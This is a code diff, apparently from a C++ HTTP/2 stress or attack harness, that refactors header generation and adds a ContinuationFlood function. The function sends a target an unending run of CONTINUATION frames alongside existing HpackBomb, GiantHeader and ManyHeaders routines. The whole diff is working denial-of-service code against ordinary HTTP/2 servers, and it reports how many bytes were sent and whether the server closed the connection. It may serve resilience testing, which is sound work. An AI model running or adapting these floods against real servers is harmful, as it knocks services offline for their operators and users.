@@ -19,6 +19,8 @@ constexpr std::size_t kept_value_bytes = 3900;
 std::string NeverEndingHeaders(const AttackOrders& orders, std::int64_t bytes,
                                const std::string& beginning, const std::string& more) {
   Http2Peer peer(orders.target, orders.tls, true);
+  // So that the limit is known, and acknowledged, before the headers.
+  if (!peer.IsAnswered(answer_max)) return "sent=0";
   std::int64_t sent = 0;
   if (peer.Send(Frame(FrameType::kHeaders, 0, 1, CallHeaders(attacked_method) + beginning))) {
     while (sent < bytes && peer.Send(Frame(FrameType::kContinuation, 0, 1, more))) {
@@ -27,6 +29,15 @@ std::string NeverEndingHeaders(const AttackOrders& orders, std::int64_t bytes,
   }
   return absl::StrCat("sent=", sent, " go_aways=", peer.counts().go_aways,
                       " closed=", peer.is_gone() ? 1 : 0);
+}
+
+// As many as fit.
+std::string HeadersOf(std::size_t bytes_max) {
+  std::string headers;
+  while (headers.size() + 1010 < bytes_max) {
+    headers += HpackHeader("x", std::string(1000, 'a'));
+  }
+  return headers;
 }
 
 }  // namespace
@@ -39,11 +50,11 @@ std::string GiantHeader(const AttackOrders& orders) {
 }
 
 std::string ManyHeaders(const AttackOrders& orders) {
-  std::string headers;
-  while (headers.size() + 1100 < frame_bytes_max) {
-    headers += HpackHeader("x", std::string(1000, 'a'));
-  }
-  return NeverEndingHeaders(orders, orders.count * mebibyte, "", headers);
+  return NeverEndingHeaders(orders, orders.count * mebibyte, "", HeadersOf(frame_bytes_max));
+}
+
+std::string ContinuationFlood(const AttackOrders& orders) {
+  return NeverEndingHeaders(orders, orders.count * mebibyte, "", HeadersOf(4 << 10));
 }
 
 std::string HpackBomb(const AttackOrders& orders) {
